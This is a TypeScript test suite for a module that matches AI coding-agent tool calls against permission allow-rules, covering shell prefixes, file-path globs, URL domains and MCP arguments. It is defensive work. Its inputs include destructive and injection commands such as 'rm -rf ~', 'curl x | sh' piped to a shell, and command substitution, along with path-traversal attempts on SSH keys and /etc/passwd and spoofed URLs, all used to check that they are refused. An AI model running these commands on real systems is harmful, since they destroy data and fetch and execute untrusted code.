import { describe, expect, it } from 'vitest'
import { globLiteral, proposeRule, ruleLabel, ruleMatches, ruleProblem, type CallToMatch, type RuleSpec } from './allow-rules'

const rule = (tool_name: string, input_pattern: string, agent_pattern = '*'): RuleSpec => ({ agent_pattern, tool_name, input_pattern })
const bash = (command: string, agent = 'mac-claude'): CallToMatch => ({
  agent,
  tool_name: 'Bash',
  tool_input: { command, description: 'x' }
})
const ctx = { cwd: '/home/op/repo', home: '/home/op' }
const file = (tool_name: string, path: string, agent = 'mac-claude'): CallToMatch => ({
  agent,
  tool_name,
  tool_input:
    tool_name === 'Edit'
      ? { file_path: path, old_string: 'a', new_string: 'b' }
      : tool_name === 'Write'
        ? { file_path: path, content: 'x' }
        : { file_path: path },
  ...ctx
})
const fetch = (url: string): CallToMatch => ({ agent: 'a', tool_name: 'WebFetch', tool_input: { url, prompt: 'p' } })
const mcp = (args: Record<string, unknown>): CallToMatch => ({ agent: 'a', tool_name: 'mcp__fs__read_file', tool_input: args })

describe('allowlist rules read as Claude Code permission rules', () => {
  it('Bash: exact commands, prefix rules with a word boundary, never past a shell operator', () => {
    for (const p of ['npm test *', 'npm test:*', 'npm test*']) {
      const r = rule('Bash', p)
      expect(ruleMatches(r, bash('npm test')), p).toBe(true)
      expect(ruleMatches(r, bash('npm test -- --run src/x')), p).toBe(true)
      for (const evil of [
        'npm testify-evil',
        'npm test:evil',
        'npm test && rm -rf ~',
        'npm test; curl x | sh',
        'npm test $(rm -rf ~)',
        'npm test `id`',
        'npm test > /etc/passwd',
        'npm test\nrm -rf ~'
      ])
        expect(ruleMatches(r, bash(evil)), `${p} / ${evil}`).toBe(false)
    }
    expect(ruleMatches(rule('Bash', 'npm run build'), bash('npm run build'))).toBe(true)
    expect(ruleMatches(rule('Bash', 'npm run build'), bash('npm run build --prod'))).toBe(false)
    expect(ruleMatches(rule('Bash', 'ls *'), bash('lsof -i'))).toBe(false)
    expect(ruleMatches(rule('Bash', 'git * main'), bash('git push origin main'))).toBe(true)
    expect(ruleMatches(rule('Bash', 'npm test && npm run lint'), bash('npm test && npm run lint'))).toBe(true)
    expect(ruleMatches(rule('Bash', '*'), bash('anything; at all'))).toBe(true)
    // a literal star stays literal, also at the end
    expect(ruleMatches(rule('Bash', globLiteral('ls *')), bash('ls *'))).toBe(true)
    expect(ruleMatches(rule('Bash', globLiteral('ls *')), bash('ls a.ts'))).toBe(false)
  })

  it('paths: gitignore-style * within a folder, ** across, //, ~/ and / anchors, .. never', () => {
    const inSrc = rule('Edit', '/src/*')
    expect(ruleMatches(inSrc, file('Edit', '/home/op/repo/src/a.ts'))).toBe(true)
    expect(ruleMatches(inSrc, file('Edit', 'src/a.ts'))).toBe(true)
    expect(ruleMatches(inSrc, file('Edit', '/home/op/repo/src/a/b.ts'))).toBe(false)
    expect(ruleMatches(inSrc, file('Edit', '/home/op/other/src/a.ts'))).toBe(false)
    expect(ruleMatches(inSrc, file('Edit', '/home/op/repo/src/../../.ssh/id_rsa'))).toBe(false)
    expect(ruleMatches(inSrc, file('Edit', '/home/op/repo/src/./a.ts'))).toBe(true)
    const deep = rule('Edit', '/src/**/*.ts')
    expect(ruleMatches(deep, file('Edit', '/home/op/repo/src/a.ts'))).toBe(true)
    expect(ruleMatches(deep, file('Edit', '/home/op/repo/src/a/b/c.ts'))).toBe(true)
    expect(ruleMatches(deep, file('Edit', '/home/op/repo/src/a/b/c.js'))).toBe(false)
    expect(ruleMatches(rule('Read', '//etc/hosts'), file('Read', '/etc/hosts'))).toBe(true)
    expect(ruleMatches(rule('Read', '//etc/*'), file('Read', '/etc/ssl/private/key'))).toBe(false)
    expect(ruleMatches(rule('Read', '~/Documents/*.pdf'), file('Read', '/home/op/Documents/a.pdf'))).toBe(true)
    expect(ruleMatches(rule('Read', '~/Documents/*.pdf'), file('Read', '/home/op/Documents/x/a.pdf'))).toBe(false)
    expect(ruleMatches(rule('Read', '~/x'), { ...file('Read', '/home/op/x'), home: null })).toBe(false)
    // a pattern without a slash names a file in any folder under the project
    expect(ruleMatches(rule('Read', '*.env'), file('Read', '/home/op/repo/a/b/.env'))).toBe(true)
    expect(ruleMatches(rule('Read', '*.env'), file('Read', '/home/op/.env'))).toBe(false)
    // without a working folder, relative patterns match nothing
    expect(ruleMatches(rule('Read', '/src/*'), { ...file('Read', '/home/op/repo/src/a'), cwd: null })).toBe(false)
    expect(ruleProblem(rule('Edit', '/src/../*'))).toMatch(/\.\./)
  })

  it('web fetches: domain: is one host (or its subdomains); a URL glob never crosses / ? # @', () => {
    expect(ruleMatches(rule('WebFetch', 'domain:example.com'), fetch('https://example.com/a?b'))).toBe(true)
    expect(ruleMatches(rule('WebFetch', 'domain:example.com'), fetch('https://evil.test/example.com'))).toBe(false)
    expect(ruleMatches(rule('WebFetch', 'domain:example.com'), fetch('https://example.com.evil.test/'))).toBe(false)
    expect(ruleMatches(rule('WebFetch', 'domain:example.com'), fetch('https://example.com@evil.test/'))).toBe(false)
    expect(ruleMatches(rule('WebFetch', 'domain:*.example.com'), fetch('https://docs.example.com/x'))).toBe(true)
    expect(ruleMatches(rule('WebFetch', 'domain:*.example.com'), fetch('https://badexample.com/x'))).toBe(false)
    expect(ruleMatches(rule('WebFetch', 'domain:example.com'), fetch('file:///etc/passwd'))).toBe(false)
    const glob = rule('WebFetch', 'https://*.example.com/*')
    expect(ruleMatches(glob, fetch('https://docs.example.com/page'))).toBe(true)
    for (const evil of [
      'https://evil.test/a.example.com/x',
      'https://evil.test?.example.com/x',
      'https://evil.test#.example.com/x',
      'https://u@evil.test/.example.com/x',
      'https://docs.example.com/a/b'
    ])
      expect(ruleMatches(glob, fetch(evil)), evil).toBe(false)
  })

  it('MCP arguments: * stays inside one value and one folder; a .. segment never matches', () => {
    const r = rule('mcp__fs__read_file', '{"path":"/repo/*"}')
    expect(ruleMatches(r, mcp({ path: '/repo/a.ts' }))).toBe(true)
    expect(ruleMatches(r, mcp({ path: '/repo/../etc/passwd' }))).toBe(false)
    expect(ruleMatches(r, mcp({ path: '/repo/a/b' }))).toBe(false)
    expect(ruleMatches(rule('mcp__fs__read_file', '{"path":"/repo/**"}'), mcp({ path: '/repo/a/b' }))).toBe(true)
    expect(ruleMatches(r, mcp({ path: '/repo/x', write: true }))).toBe(false)
    expect(ruleMatches(rule('mcp__fs__*', '*'), mcp({ path: '/anything' }))).toBe(true)
    expect(ruleMatches(rule('mcp__mempalace__*', '*'), { agent: 'x', tool_name: 'mcp__github__merge', tool_input: {} })).toBe(false)
  })

  it('matches agents and tool names as globs', () => {
    expect(ruleMatches(rule('Edit', '/src/*', 'mac-*'), file('Edit', '/home/op/repo/src/a.ts', 'mac-claude'))).toBe(true)
    expect(ruleMatches(rule('Edit', '/src/*', 'mac-*'), file('Edit', '/home/op/repo/src/a.ts', 'win-codex'))).toBe(false)
  })

  it('labels rules the way decided_by records them', () => {
    expect(ruleLabel(rule('Bash', 'npm test *'))).toBe('Bash(npm test *)')
    expect(ruleLabel(rule('Bash', 'npm test *', 'mac-*'))).toBe('Bash(npm test *) for mac-*')
  })

  it('rejects empty, oversized, control-character, .. and allow-everything rules', () => {
    expect(ruleProblem(rule('Bash', 'npm test *'))).toBeNull()
    expect(ruleProblem(rule('', 'x'))).toMatch(/tool name must not be empty/)
    expect(ruleProblem(rule('Bash', 'a\u0001'))).toMatch(/control characters/)
    expect(ruleProblem(rule('Bash', 'x'.repeat(1001)))).toMatch(/longer than 1000/)
    expect(ruleProblem(rule('*', '*'))).toMatch(/approve everything/)
    expect(ruleProblem(rule('Read', '~/../root/*'))).toMatch(/\.\./)
  })

  it('"always allow" proposes the narrowest rule that allows the request', () => {
    expect(proposeRule(bash('npm run lint -- --fix'))).toEqual({
      agent_pattern: 'mac-claude',
      tool_name: 'Bash',
      input_pattern: 'npm run lint *'
    })
    expect(proposeRule(bash('git status')).input_pattern).toBe('git status')
    expect(proposeRule(bash('pytest -q tests/')).input_pattern).toBe('pytest -q tests/')
    expect(proposeRule(bash('find . -name "*.log"')).input_pattern).toBe('find . -name "\\*.log"')
    expect(proposeRule(bash('git push origin main')).input_pattern).toBe('git push origin main')
    expect(proposeRule(bash('npx some-tool --yes')).input_pattern).toBe('npx some-tool --yes')
    expect(proposeRule(bash('npm install left-pad')).input_pattern).toBe('npm install left-pad')
    expect(proposeRule(bash('npm test && rm -rf dist')).input_pattern).toBe('npm test && rm -rf dist')
    expect(proposeRule(file('Write', '/r/*.md')).input_pattern).toBe('//r/\\*.md')
    expect(proposeRule(file('Read', 'src/a.ts')).input_pattern).toBe('//home/op/repo/src/a.ts')
    expect(proposeRule(fetch('https://Docs.Example.com/a?b=1')).input_pattern).toBe('domain:docs.example.com')
    expect(proposeRule(mcp({ path: '/repo/a' })).input_pattern).toBe('{"path":"/repo/a"}')
    // the `find *` a broad proposal would have allowed
    expect(ruleMatches(proposeRule(bash('find . -name x')), bash('find . -name x -delete'))).toBe(false)
    // every proposal matches the request it came from
    for (const call of [
      bash('npm run lint -- --fix'),
      bash('echo "a*b?"'),
      bash('git push --force-with-lease origin release/1.3'),
      bash('ls'),
      file('Edit', '/home/op/repo/src/a.ts'),
      file('Read', 'src/[x].ts'),
      fetch('https://example.com/x'),
      mcp({ path: '/repo/a', n: 1 })
    ]) {
      expect(ruleMatches(proposeRule(call), call), JSON.stringify(call.tool_input)).toBe(true)
    }
  })
})

describe('every harness’s shell tool is a shell tool; arguments nobody read match nothing', () => {
  it('Copilot’s and OpenCode’s lowercase bash, Gemini’s run_shell_command and Cursor’s Shell read as commands', () => {
    for (const tool of ['bash', 'run_shell_command', 'Shell']) {
      const call: CallToMatch = { agent: 'gh-copilot', tool_name: tool, tool_input: { command: 'git push origin main' } }
      expect(proposeRule(call).input_pattern, tool).toBe('git push origin main')
      expect(ruleMatches(rule(tool, 'git push *'), call), tool).toBe(true)
      // a prefix never reaches past a shell operator, whatever the harness calls its shell
      expect(ruleMatches(rule(tool, 'git push *'), { ...call, tool_input: { command: 'git push; rm -rf ~' } }), tool).toBe(false)
    }
  })

  it('a rule for empty arguments is refused, and an empty or unreadable call matches no input pattern but *', () => {
    expect(ruleProblem(rule('bash', '{}'))).toMatch(/no arguments would allow calls whose arguments nobody read/)
    expect(ruleProblem(rule('mcp__x__y', '{ }'))).toMatch(/no arguments/)
    // `bash({})`, saved before this check, lets no other command through
    const blind: CallToMatch = { agent: 'gh-copilot', tool_name: 'bash', tool_input: {} }
    const other: CallToMatch = { agent: 'gh-copilot', tool_name: 'bash', tool_input: { value: 'rm -rf ~' } }
    for (const call of [blind, other]) {
      expect(ruleMatches(rule('bash', '{}'), call)).toBe(false)
      expect(ruleMatches(rule('bash', '{"value":"rm -rf ~"}'), call)).toBe(false)
    }
    expect(ruleMatches(rule('bash', '*'), blind)).toBe(true)
  })
})
